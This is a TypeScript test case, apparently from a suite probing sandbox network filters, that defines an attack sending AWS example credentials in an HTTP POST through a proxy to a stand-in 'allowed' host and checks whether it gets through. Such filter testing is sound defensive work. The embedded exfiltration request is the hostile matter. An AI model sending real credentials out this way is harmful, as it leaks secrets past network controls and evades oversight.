// Sends a private key to an allowed host.
import { PLAIN } from "../../baselines.js";
import { reaches } from "../../judges.js";
import { throughProxy } from "../../scripts.js";
import { filteringRequests } from "../../tweaks.js";
import type { Attack } from "../../types.js";

export const networkFilter: Attack = {
  id: "network/filter",
  control: "network.filter",
  severity: "high",
  threats: ["H26"],
  sentence: "Sends a private key to an allowed host.",
  inside: throughProxy(
    "POST http://judged.breakout.test/public/ HTTP/1.1\\r\\nHost: judged.breakout.test\\r\\nContent-Length: 200\\r\\n\\r\\nAKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY $NONCE$(printf %200s)",
  ),
  judge: reaches("allowed", "tcp4"),
  baseline: PLAIN,
  tweak: filteringRequests,
  policyOnly: true,
};
